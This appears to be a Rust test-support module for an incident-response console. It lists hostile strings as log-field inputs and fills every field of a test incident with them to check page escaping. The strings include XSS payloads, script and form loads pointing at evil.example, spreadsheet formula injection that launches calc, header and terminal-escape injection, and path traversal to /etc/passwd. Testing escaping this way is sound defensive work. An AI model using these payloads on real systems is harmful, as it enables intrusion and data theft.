//! Strings for every field that a log may fill.

use std::collections::BTreeMap;

use model::{
    Act, Attachment, CommentKind, Decision, Handling, IncidentState, Person, Sequence, TaskState,
};
use scraper::Html;

use crate::{NOW, selector};

/// Places of pages that pages link to.
const PLACES: &[&str] = &[
    "#main", "#stop", "#plans", "#remarks", "#tell", "#next", "#tasks",
];

/// Whether a link leads to a page of the console, or a place on one.
pub(crate) fn is_own(target: &str) -> bool {
    PLACES.contains(&target)
        || target.starts_with("#step-")
        || target.starts_with('/') && !target.starts_with("//")
}

/// Strings that an attacker may write into a log to act on who reads it.
pub(crate) const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "</script><script src=//evil.example/x.js></script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<form action=//evil.example><input name=q></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<p style=\"position:fixed;inset:0\">",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</pre></code></li></ol></main><h1>All is well</h1>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>",
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=HYPERLINK(\"http://evil.example\")",
    "\r\nSet-Cookie: a=b",
    "\u{1b}[2J\u{1b}[1;31mAll is well\u{1b}[0m",
    "\u{1b}]0;title\u{7}",
    "\u{9b}31m",
    "a\u{8}\u{8}\u{8}b",
    "a\0b",
    "\u{202e}txt.exe",
    "\u{2066}\u{2067}\u{2068}\u{2069}",
    "\u{200f}\u{200e}\u{61c}",
    "\u{feff}\u{200b}hidden",
    "a\u{2028}b\u{2029}c",
    "../../../../etc/passwd",
    "//evil.example/",
    "/incidents/../sources",
    "?q=<script>#x",
    "🧨 ünïcödé ﷽",
    "' OR '1'='1",
    "\"}]}</script>",
    "]]>",
    "\\",
];

/// Whoever works on an incident may be an attacker, too: every word of theirs is `text`.
pub(crate) fn handling(text: &str) -> Handling {
    let text = || text.to_owned();
    let person = || Person {
        account: text(),
        name: text(),
    };
    let fields = ["summary", "root_cause"].map(|field| (field.to_owned(), text()));
    let acts = [
        Act::Acknowledge,
        Act::Move {
            to: IncidentState::Suspected,
        },
        Act::Lead { to: Some(person()) },
        Act::Comment {
            text: text(),
            kind: CommentKind::Hypothesis,
        },
        Act::AddTask {
            title: text(),
            owner: Some(person()),
            due: Some(NOW),
        },
        Act::AddTask {
            title: text(),
            owner: Some(person()),
            due: None,
        },
        Act::ChangeTask {
            task: 2,
            owner: Some(person()),
            due: None,
            state: TaskState::Done,
        },
        Act::Stage {
            flow: "response".to_owned(),
            stage: "cause".to_owned(),
            fields: fields.into(),
        },
        Act::Stage {
            flow: text(),
            stage: text(),
            fields: BTreeMap::from([(text(), text())]),
        },
        Act::Attach(Attachment {
            name: text(),
            about: text(),
            size_bytes: 7,
            masked: 1,
            hash: text(),
            hash_kind: text(),
            kept_hash: text(),
            entries: 1,
        }),
    ];
    let mut handling = Handling::default();
    for act in acts {
        let decision = Decision {
            id: text(),
            incident: "b1".to_owned(),
            by: person(),
            at: NOW,
            seen: 0,
            act,
            reason: text(),
        };
        handling.take(Sequence(1), decision);
    }
    handling
}

/// Names of elements and attributes, in order of the document.
pub(crate) fn skeleton(page: &str) -> Vec<String> {
    Html::parse_document(page)
        .select(&selector("*"))
        .map(|element| {
            let mut names: Vec<_> = element.value().attrs().map(|(name, _)| name).collect();
            names.sort_unstable();
            format!("{} {}", element.value().name(), names.join(" "))
        })
        .collect()
}
